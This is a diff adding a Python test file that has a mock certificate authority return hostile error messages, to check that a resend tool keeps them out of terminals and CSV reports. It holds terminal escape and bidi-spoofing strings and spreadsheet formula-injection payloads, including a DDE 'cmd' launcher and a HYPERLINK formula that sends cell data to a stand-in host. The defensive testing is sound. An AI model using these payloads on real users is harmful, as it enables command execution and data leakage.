@@ -1,0 +1,237 @@
+"""A CA that answers to do harm: to a terminal or to a spreadsheet."""
+
+import csv
+import json
+import unicodedata
+from collections.abc import Sequence
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from batch_resend.certcentral.judge import MAX_MESSAGE
+from tests.certcentral.fault_server import answer
+from tests.cli.conftest import Desk, Ended, assert_adds_up, results
+from tests.cli.counting_server import Call, CountingServer, Fate, in_turn_per_order, says
+
+pytestmark = pytest.mark.asyncio
+
+
+def desk_at(folder: Path, ca: CountingServer, orders: int = 1) -> Desk:
+    """Return a folder to work in, with a list of the orders 1 to N."""
+    desk = Desk(folder, ca.base_url)
+    desk.environment |= {
+        "BATCH_RESEND_LIMIT": "none",
+        "BATCH_RESEND_MAX_ATTEMPTS": "1",
+        "BATCH_RESEND_IN_DOUBT": "hold",
+        "BATCH_RESEND_CONCURRENCY": "4",
+    }
+    desk.write("orders.csv", "\n".join(["order_id", *map(str, range(1, orders + 1))]))
+    return desk
+
+
+async def answered(folder: Path, fates: Sequence[Fate], *flags: str) -> tuple[Desk, Ended]:
+    """Send a list of which every order meets its fate once; check what must hold of any answer."""
+    by_order: dict[str, Sequence[Fate]] = {str(n): [fate] for n, fate in enumerate(fates, 1)}
+    async with CountingServer(in_turn_per_order(by_order)) as ca:
+        desk = desk_at(folder, ca, len(fates))
+        sent = await desk.run("send", "orders.csv", *flags)
+    assert ca.requests == len(fates)
+    assert "Traceback" not in sent.err
+    assert_adds_up(desk.summary())
+    for text in (sent.out, sent.err, *(path.read_text() for path in desk.report().iterdir())):
+        assert_harmless(text)
+    return desk, sent
+
+
+def assert_harmless(text: str) -> None:
+    """Check that a text has no control characters but line breaks, and none that go unseen."""
+    letters = set(text.replace("\r\n", "")) - {"\n"}
+    harmful = {"Cc", "Cf", "Cs", "Zl", "Zp"}
+    assert [hex(ord(c)) for c in letters if unicodedata.category(c) in harmful] == []
+
+
+def table(desk: Desk) -> list[dict[str, str]]:
+    """Return the lines of results.csv."""
+    with (desk.report() / "results.csv").open(encoding="utf-8", newline="") as file:
+        return list(csv.DictReader(file))
+
+
+def said(message: object, code: object = "bad") -> bytes:
+    """Return an error body of the CA's."""
+    return json.dumps({"errors": [{"code": code, "message": message}]}).encode()
+
+
+# --- a terminal ---------------------------------------------------------------------------------
+
+CODES = {
+    "clears the screen": "\x1b[2J",
+    "sets the title": "\x1b]0;owned\x07",
+    "C1 codes": "\x9b2J\x9d0;owned\x9c\x85",
+    "backspaces": "ok\b\bno\x7f",
+    "carriage return": "seen\rhidden",
+    "right to left": "\u202etxt.exe\u202c\u200f\u061c\u2067x\u2069",
+    "unseen": "\u200b\ufeff\u00ad\u2060\u180e\U000e0041\ufff9",
+    "NUL": "\0a\0",
+    "line breaks": "one\ntwo\r\nthree\u2028four\u2029five\x0b\x0c",
+    "half a character": "\ud83d",
+}
+
+
+def ways_to_say(text: str) -> list[Fate]:
+    """Return answers that bring a text: as JSON, escaped or not, as a page, as plain text."""
+    raw = text.encode("utf-8", "surrogatepass")
+    as_json = json.dumps({"errors": [{"message": f"A{text}Z", "code": f"c{text}d"}]}).encode()
+    references = "".join(f"&#{ord(letter)};" for letter in text).encode()
+    return [
+        says(400, as_json),
+        says(400, b"A%sZ" % raw),
+        says(400, b"<html><title>A%sZ</title></html>" % raw),
+        says(400, b"<html><p>A%sZ</p></html>" % references),
+        says(400, b"A\xff\xfe%s\xc3\x28\xedZ" % raw),
+    ]
+
+
+@pytest.mark.parametrize("log_format", ["text", "json"])
+async def test_control_codes_in_a_message_reach_neither_terminal_nor_report(
+    tmp_path: Path, log_format: str
+) -> None:
+    fates = [fate for text in CODES.values() for fate in ways_to_say(text)]
+    desk, sent = await answered(tmp_path, fates, "-v", "--log-format", log_format)
+    assert sent.code == 3
+    assert [line["status"] for line in results(desk.report())] == ["refused"] * len(fates)
+    for line in results(desk.report()):
+        assert {"A", "Z"} <= set(line["error_message"])
+    attempts = [line for line in sent.err.splitlines() if ", attempt 1: " in line]
+    assert len(attempts) == len(fates)  # however many lines the message has
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        pytest.param(
+            answer(302, b"", "Location: https://x.example/\x1b]0;owned\x07\x9b2J"), id="a redirect"
+        ),
+        pytest.param(answer(401, said("\x1b[2J\u202eno\n\n", "\x1b[31m")), id="a wrong key"),
+        pytest.param(answer(200, b"<title>\x1b[2J\xc2\x9b2J&#27;[2J&#x202e;</title>"), id="a page"),
+        pytest.param(answer(429, said("\x1b[2J\u061c", "\x9b"), "Retry-After: 99"), id="a 429"),
+    ],
+)
+async def test_nor_do_those_in_the_reason_for_which_a_run_stops(
+    tmp_path: Path, data: bytes
+) -> None:
+    async def fate(call: Call) -> None:
+        await call.visit.read_all()
+        await call.say(data)
+
+    desk, sent = await answered(tmp_path, [fate], "-v", "--patience", "1s")
+    assert sent.code == 4
+    run = desk.report().name
+    for words in (("show", run), ("show", run, "--json")):
+        shown = await desk.run(*words)
+        assert_harmless(shown.out + shown.err)
+
+
+@pytest.mark.parametrize(
+    "data",
+    [b"\x1b[2J\x1b]0;owned\x07\r\n\r\n", b"HTTP/1.1 \x1b[2J\r\n\r\n", b"\xff\xfe\x9b\0\x7f\r\n\r\n",
+     b"HTTP/1.1 204 \x1b[2J\r\nX-\x1b[2J: 1\r\n\r\n", "\u202eHTTP\u061c\r\n\r\n".encode()],
+)  # fmt: skip
+async def test_nor_do_those_in_what_is_no_http(tmp_path: Path, data: bytes) -> None:
+    async def fate(call: Call) -> None:
+        await call.visit.read_all()
+        await call.say(data)
+        call.visit.close()
+
+    desk, _ = await answered(tmp_path, [fate], "-v")
+    assert results(desk.report())[0]["status"] == "in_doubt"
+
+
+# --- a spreadsheet ------------------------------------------------------------------------------
+
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://x.example/?"&A1,"see")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " \0\u200b=1+1",
+    "\ufeff=1+1",
+    ',"\n=1+1',
+    '";=1+1;"',
+    "\uff1d1+1",  # full width: some spreadsheets take it for =
+    "\uff0b1\uff0d1",
+    "\uff20SUM(1)",
+]
+RUNS_AS_FORMULA = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
+
+
+async def test_a_formula_in_a_message_or_a_code_is_none_in_the_table(tmp_path: Path) -> None:
+    fates = [says(400, said(formula, formula)) for formula in FORMULAS]
+    fates += [says(400, formula.encode()) for formula in FORMULAS]
+    desk, sent = await answered(tmp_path, fates)
+    assert sent.code == 3
+    lines = table(desk)
+    assert len(lines) == len(fates)
+    for line in lines:
+        assert line["reason"]
+        for cell in line.values():
+            assert not cell.startswith(RUNS_AS_FORMULA)
+    first = results(desk.report())[0]
+    assert first["error_message"] == FORMULAS[0]  # programs get it as it was said
+    assert lines[0]["reason"] == lines[0]["error_code"] == f"'{FORMULAS[0]}"
+
+
+# --- shape and size -----------------------------------------------------------------------------
+
+
+async def test_a_message_with_line_breaks_stays_one_line_and_a_cell(tmp_path: Path) -> None:
+    broken = 'one\r\ntwo\n3,4;5\t"six"\u2028seven\x0beight\x85nine'
+    desk, sent = await answered(tmp_path, [says(400, said(broken, broken))] * 3, "-v")
+    assert {line["reason"] for line in table(desk)} == {'one two 3,4;5 "six" seven eight nine'}
+    assert len((desk.report() / "results.csv").read_bytes().split(b"\n")) == 1 + 3 + 1
+    assert len((desk.report() / "results.jsonl").read_text().splitlines()) == 3
+    assert sent.err.count("one two 3,4;5") == sent.err.count("attempt 1") == 3
+
+
+async def test_a_long_message_is_cut_to_a_bound(tmp_path: Path) -> None:
+    long = "x" * 100_000
+    many = {"errors": [{"code": "c" * 600, "message": "m" * 50}] * 200}
+    fates = [
+        says(400, said(long, long)),
+        says(400, long.encode()),
+        says(400, b"<title>%s</title>" % long.encode()),
+        says(400, b"<p>" * 5_000 + long.encode()),
+        says(400, json.dumps(many).encode()),
+        says(400, said("y" * 10_000)),
+        says(400, said("z" * MAX_MESSAGE)),
+    ]
+    desk, sent = await answered(tmp_path, fates, "-v")
+    found = results(desk.report())
+    assert {line["status"] for line in found} == {"refused"}
+    assert all(len(line["error_message"]) <= MAX_MESSAGE for line in found)
+    assert all(len(line["error_code"] or "") <= MAX_MESSAGE for line in found)
+    assert found[5]["error_message"].endswith("y...")
+    assert found[6]["error_message"] == "z" * MAX_MESSAGE  # what fits is not cut
+    assert max(map(len, sent.err.splitlines())) < 2 * MAX_MESSAGE
+
+
+ODD_JSON: list[Any] = [
+    {}, [], None, 7, "text", {"errors": None}, {"errors": {}}, {"errors": [None]},
+    {"errors": [{}]}, {"errors": [[]]}, {"errors": [{"message": {"a": ["b"]}, "code": ["c"]}]},
+    {"errors": [{"message": None, "code": None}]}, {"errors": [{"message": 7, "code": 1e400}]},
+    {"errors": [{"message": "", "code": ""}]}, {"error": "x", "message": "y"},
+]  # fmt: skip
+
+
+async def test_an_error_of_any_other_shape_is_an_error_all_the_same(tmp_path: Path) -> None:
+    deep = [says(400, b"[" * 8_000), says(400, b'{"errors":' * 1_500), says(400, b"<" * 16_000)]
+    odd = [says(400, json.dumps(body).encode()) for body in ODD_JSON]
+    desk, sent = await answered(tmp_path, [*odd, *deep, says(400)], "-v")
+    assert sent.code == 3
+    found = results(desk.report())
+    assert {line["status"] for line in found} == {"refused"}
+    assert all(line["error_message"] for line in found)
